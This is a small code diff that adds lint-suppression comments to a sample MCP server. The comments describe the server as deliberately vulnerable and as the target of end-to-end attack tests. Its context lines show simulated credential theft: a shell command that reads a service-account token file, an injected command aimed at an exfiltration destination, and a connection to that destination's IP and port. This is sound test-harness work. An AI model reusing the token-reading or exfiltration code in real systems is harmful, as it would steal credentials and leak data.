@@ -196,6 +196,7 @@ export async function startSampleServer(opts: SampleServerOptions): Promise<Runn
       await sleep(5);
       return;
     }
+    // eslint-disable-next-line security/detect-non-literal-fs-filename -- the sample MCP server is vulnerable on purpose (the e2e attack target), never a product path
     await readFile(path).catch(() => undefined);
   };
 
@@ -373,6 +374,7 @@ async function runShell(onProcess: SampleServerOptions["onProcess"], exfil: Dest
   const hasBash = existsSync("/bin/bash");
   const shell = hasBash ? "/bin/bash" : "/bin/sh";
   const command = hasBash ? injectedCommand(exfil) : `cat ${SA_TOKEN} >/dev/null 2>&1; true`;
+  // eslint-disable-next-line security/detect-non-literal-fs-filename -- the sample MCP server is vulnerable on purpose (the e2e attack target), never a product path
   if (!existsSync(shell)) {
     await tryConnect(exfil.ip, exfil.port, 1000);
     return;
